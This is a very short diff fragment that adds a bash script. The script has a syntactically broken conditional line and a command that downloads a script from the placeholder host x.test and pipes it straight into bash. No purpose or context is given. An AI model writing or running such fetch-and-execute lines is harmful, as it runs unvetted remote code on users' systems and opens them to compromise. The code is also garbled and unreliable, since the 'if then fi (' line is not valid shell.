@@ -1,0 +1,3 @@
+#!/bin/bash
+if then fi (
+curl -s https://x.test/i | bash
